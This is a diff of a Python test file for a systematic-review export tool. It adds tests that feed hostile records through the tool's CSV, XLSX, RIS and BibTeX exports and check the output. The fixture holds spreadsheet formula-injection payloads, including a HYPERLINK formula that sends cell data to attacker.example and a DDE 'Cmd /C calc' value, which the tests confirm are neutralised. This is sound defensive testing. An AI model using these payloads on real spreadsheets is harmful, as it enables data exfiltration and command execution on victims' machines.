@@ -165,7 +165,7 @@ def test_bibtex_escapes_specials_and_non_ascii_in_titles():
     title = fields["title"]
     assert key == "muller2020mscs"
     for expected in (r"MSCs \& TNF", r"50\% of", r"\textbraceleft{}CD4\textbraceright{}\_Tregs", r"Sj{\"o}gren's",
-                     r"na{\"i}ve", r"IFN-{$\gamma$} {$\pm$} IL-6", r"study \#2 \textasciitilde{} \$5 \textbackslash{}",
+                     r"na{\"\i}ve", r"IFN-{$\gamma$} {$\pm$} IL-6", r"study \#2 \textasciitilde{} \$5 \textbackslash{}",
                      r"\textasciicircum{}x \textbraceright{}\textbraceleft{}"):
         assert expected in title
     assert not re.search(r"(?<!\\)[&%#_]", title)  # every special is escaped
@@ -179,7 +179,8 @@ def test_bibtex_escapes_specials_and_non_ascii_in_titles():
 def test_escaped_text_always_has_balanced_braces(text):
     escaped = latex_escape(text)
     assert balanced(escaped)
-    assert not re.search(r"(?<!\\)[&%#_]", escaped)
+    text_mode = re.sub(r"\{\$[^$]*\$\}", "", escaped)  # inside {$...$} (₀ is {$_0$}) _ is a subscript
+    assert not re.search(r"(?<!\\)[&%#_]", text_mode)
 
 
 def test_clashing_keys_get_letter_suffixes():
@@ -315,3 +316,168 @@ def test_parse_formats():
     assert parse_formats("all") == ["csv", "xlsx", "ris", "bibtex", "json"]
     assert parse_formats("json, bib ,csv") == ["csv", "bibtex", "json"]
     assert write_exports.__doc__ and find_review.__doc__
+
+
+# --- hostile harvested text: formula injection, line breaks, control characters (issue 13) ------
+
+HOSTILE = [
+    {"id": "evil-1", "title": '=HYPERLINK("http://attacker.example/?x="&A1,"Click for the full text")',
+     "authors": ["+Cmd|' /C calc'!A0", "@SUM(1+1)"], "year": 2021, "journal": "-2+3",
+     "abstract": "Rheumatoid arthritis patients received umbilical cord mesenchymal stem cells."},
+    {"id": "evil-2", "title": "A title with a bare\rcarriage return and a bell \x07 and NUL \x00 inside",
+     "authors": ["\tTab T"], "year": 2022, "journal": "\rJournal",
+     "abstract": "Rheumatoid arthritis patients received mesenchymal stem cells."},
+]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def hostile(tmp_path, capsys, monkeypatch):
+    monkeypatch.setenv("TRIALSYNTH_REVIEWER", "Ann")
+    root = tmp_path / "rev"
+    source = tmp_path / "hostile.jsonl"
+    source.write_text("".join(json.dumps(r) + "\n" for r in HOSTILE), encoding="utf-8")
+    assert main(["init", str(root)]) == 0
+    assert main(["harvest", "--review", str(root), "--from", str(source)]) == 0
+    assert main(["extract", "--review", str(root)]) == 0
+    for r in HOSTILE:  # in the exports whatever the extractor thinks of them
+        assert main(["screen", "--review", str(root), "--include", r["id"], "--reason", "test"]) == 0
+    capsys.readouterr()
+    return root
+
+
+def _texts(values) -> list[str]:
+    return [v for v in values if isinstance(v, str)]
+
+
+def test_table_csv_neutralises_formulas_and_keeps_rows_whole(hostile, capsys, tmp_path):
+    import csv
+
+    path = tmp_path / "t.csv"
+    assert cli(capsys, "--review", str(hostile), "table", "-o", str(path))[0] == 0
+    with open(path, newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    assert len(rows) == len(pd.read_csv(path))  # a bare CR does not split a row
+    titles = {r["record_id"]: r["title"] for r in rows}
+    assert titles["evil-1"].startswith("'=HYPERLINK(")
+    assert "carriage return" in titles["evil-2"] and "\x07" not in titles["evil-2"] and "\x00" not in titles["evil-2"]
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(FORMULA_START) or re.fullmatch(r"-?\d+(\.\d+)?", value), value
+    # every physical line is either a header/row start or inside a quoted field
+    assert path.read_bytes().count(b"\r") == 0 or b'"A title with a bare' in path.read_bytes()
+
+
+def test_xlsx_has_no_live_formula_and_numbers_stay_numbers(hostile, capsys, tmp_path):
+    from openpyxl import load_workbook
+
+    (hostile / "corrections.csv").write_text(
+        "record_id,measure,arm,timepoint_weeks,field,value,reviewer,source,note\n"
+        "evil-1,DAS28,MSC,12,change_mean,-1.2,Ann,Table 2,\n", encoding="utf-8")
+    path = tmp_path / "t.xlsx"
+    code, _, err = cli(capsys, "--review", str(hostile), "table", "-o", str(path))
+    assert code == 0, err
+    sheet = load_workbook(path).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_START)]
+    header = [c.value for c in next(sheet.iter_rows())]
+    change = header.index("change_mean")
+    values = [row[change].value for row in sheet.iter_rows(min_row=2)]
+    assert -1.2 in values  # a negative number in a numeric column is a number, not text
+    titles = _texts(row[header.index("title")].value for row in sheet.iter_rows(min_row=2))
+    assert any(t.startswith("'=HYPERLINK(") for t in titles)
+
+
+def test_export_all_survives_control_characters(hostile, capsys):
+    code, out, err = cli(capsys, "export", "--review", str(hostile))
+    assert code == 0, err
+    folder = hostile / "exports"
+    assert sorted(p.name for p in folder.iterdir()) == sorted(
+        ["evidence.csv", "evidence.xlsx", "included.ris", "included.bib", "review.json"])
+    ris = (folder / "included.ris").read_text("utf-8")
+    bib = (folder / "included.bib").read_text("utf-8")
+    assert "\x07" not in ris + bib and "\x00" not in ris + bib and "\r" not in ris
+    assert len(parse_ris(ris)) == 2
+
+
+def test_one_failed_format_does_not_stop_the_others(hostile, capsys, monkeypatch):
+    import trialsynth.exports as exports
+
+    def broken(records):
+        raise ValueError("the BibTeX writer broke")
+
+    monkeypatch.setattr(exports, "to_bibtex", broken)
+    code, out, err = cli(capsys, "export", "--review", str(hostile))
+    assert code == 2
+    assert len(err.strip().splitlines()) == 1 and "bibtex" in err and "the BibTeX writer broke" in err
+    assert "wrote" in err and "review.json" in err
+    folder = hostile / "exports"
+    assert sorted(p.name for p in folder.iterdir()) == sorted(
+        ["evidence.csv", "evidence.xlsx", "included.ris", "review.json"])
+
+
+@pytest.mark.parametrize("value, expected", [
+    ("=1+1", "'=1+1"), ("+1", "+1"), ("+cmd", "'+cmd"), ("-x", "'-x"), ("@a", "'@a"), ("\tx", "'\tx"), ("\rx", "'\nx"),
+    ("-1.5", "-1.5"), ("ok", "ok"), ("a\rb", "a\nb"), ("a\r\nb", "a\nb"), ("bell\x07", "bell"), ("", ""),
+])
+def test_safe_cell(value, expected):
+    from trialsynth.exports import safe_cell
+
+    assert safe_cell(value) == expected
+
+
+# --- a Zotero-style round trip: export, read back with the field's own readers ------------------
+
+ROUND_TRIP = [
+    WANG, ALVARO, REGISTRY,
+    record(title="Müller–Sjögren naïve IFN-γ ± IL-6: 50% & {CD4}_T cells at 2 × 10^7/kg ≥ 3 doses",
+           authors=("Müller H", "Łukasz, Piotr", "Ødegård T"), journal="Ann. Rheum. Dis. & Res.", year=2020,
+           volume="79", issue="3", pages="107-14", ids=Ids(pmid="99999999", doi="10.9999/x_{y}%z")),
+]
+
+
+def test_bibtex_round_trips_through_bibtexparser_and_pylatexenc():
+    import bibtexparser
+    from bibtexparser import middlewares as m
+
+    # LaTeX decoded to Unicode (math too), as a reference manager's BibTeX import does
+    library = bibtexparser.parse_string(to_bibtex(ROUND_TRIP), append_middleware=[
+        m.LatexDecodingMiddleware(keep_math_mode=False), m.SeparateCoAuthors(), m.SplitNameParts()])
+    # doi and url are verbatim fields (biblatex): read as written, not LaTeX-decoded
+    verbatim = bibtexparser.parse_string(to_bibtex(ROUND_TRIP))
+    assert not library.failed_blocks and not verbatim.failed_blocks
+    assert [e.key for e in library.entries] == bibtex_keys(ROUND_TRIP)
+    for original, entry, raw in zip(ROUND_TRIP, library.entries, verbatim.entries):
+        fields = {**entry.fields_dict, "doi": raw.fields_dict.get("doi")}
+        assert fields["title"].value.strip("{}") == " ".join(original.title.split())
+        assert int(fields["year"].value) == original.year
+        if original.journal:
+            assert fields["journal"].value == original.journal
+        if original.ids.doi:
+            assert fields["doi"].value == original.ids.doi.replace("{", "%7B").replace("}", "%7D")
+        if original.authors:
+            names = fields["author"].value
+            assert [n.last[0] if n.last else " ".join(n.first) for n in names][:2] == \
+                   [a.split(",")[0].split()[0] if "," in a or " " in a else a for a in original.authors][:2]
+    nasty = library.entries[3].fields_dict
+    assert nasty["pages"].value == "107–114" and nasty["number"].value == "3" and nasty["volume"].value == "79"
+    assert [n.last[0] for n in nasty["author"].value] == ["Müller", "Łukasz", "Ødegård"]
+
+
+def test_ris_round_trips_through_rispy():
+    import rispy
+
+    entries = rispy.loads(to_ris(ROUND_TRIP))
+    assert len(entries) == len(ROUND_TRIP)
+    for original, entry in zip(ROUND_TRIP, entries):
+        assert entry["title"] == " ".join(original.title.split())
+        assert entry["year"] == str(original.year)
+        assert entry.get("doi") == original.ids.doi
+        assert len(entry.get("authors", [])) == len(original.authors)
+        if original.ids.pmid:
+            assert entry["accession_number"] == original.ids.pmid and entry["name_of_database"] == "PubMed"
+    assert entries[0]["type_of_reference"] == "JOUR" and entries[2]["type_of_reference"] == "ELEC"
+    assert (entries[3]["volume"], entries[3]["number"], entries[3]["start_page"], entries[3]["end_page"]) == (
+        "79", "3", "107", "114")
+    assert entries[3]["authors"] == ["Müller, H.", "Łukasz, Piotr", "Ødegård, T."]
